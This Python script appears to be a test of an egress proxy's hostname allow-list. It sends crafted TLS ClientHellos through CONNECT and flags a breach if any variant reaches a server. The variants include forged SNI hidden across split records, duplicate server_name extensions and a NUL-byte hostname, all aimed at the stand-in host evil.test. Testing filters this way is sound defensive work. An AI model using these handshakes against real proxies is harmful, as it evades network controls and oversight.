"""Opens tunnels by handshakes that one reader takes for the allowed host, and another for another."""

import os
import socket
import struct
from urllib.parse import urlsplit

from attack import breach, facts, finish

proxy = urlsplit(os.environ["http_proxy"])
allowed = facts["allowed_host"].encode()


def extension(kind, content):
    return struct.pack("!HH", kind, len(content)) + content


def named(*names):
    listed = b"".join(struct.pack("!BH", 0, len(one)) + one for one in names)
    return extension(0, struct.pack("!H", len(listed)) + listed)


def hello(*extensions, session=b""):
    block = b"".join(extensions)
    body = b"\x03\x03" + bytes(32) + bytes([len(session)]) + session + b"\x00\x02\x13\x01\x01\x00"
    body += struct.pack("!H", len(block)) + block
    return b"\x01" + len(body).to_bytes(3, "big") + body


def records(*parts):
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(one)) + one for one in parts)


def over_two_records():
    """For the other host, and for the allowed one where the second record's header is read as well."""
    forged = hello(named(allowed))[43:]
    laid_out = hello(named(b"evil.test"), extension(21, forged), session=bytes(32))
    session = bytes(27) + struct.pack("!H", laid_out.index(forged) - 68) + bytes(3)
    whole = hello(named(b"evil.test"), extension(21, forged), session=session)
    return records(whole[:39], whole[39:])


plain = hello(named(allowed))
for first in (
    over_two_records(),
    records(plain[:20], plain[20:]),
    records(plain + hello(named(b"evil.test"))),
    records(hello(named(allowed), named(b"evil.test"))),
    records(hello(named(b"evil.test"), named(allowed))),
    records(hello(named(allowed, b"evil.test"))),
    records(hello(named(allowed), extension(0xFE0D, b"encrypted"))),
    records(hello(named(b"evil.test"))),
    records(hello(named(allowed + b"\x00.evil.test"))),
    records(hello()),
):
    with socket.create_connection((proxy.hostname, proxy.port), 2) as line:
        line.sendall(b"CONNECT %b:443 HTTP/1.1\r\n\r\n" % allowed)
        line.settimeout(5)
        answer = b""
        try:
            line.sendall(first + b"\r\n\r\n")
            while piece := line.recv(1 << 16):
                answer += piece
        except OSError:
            pass
    if answer.partition(b"\r\n\r\n")[2]:
        breach(f"a handshake that begins {first[:60]!r} reached a server")
finish()
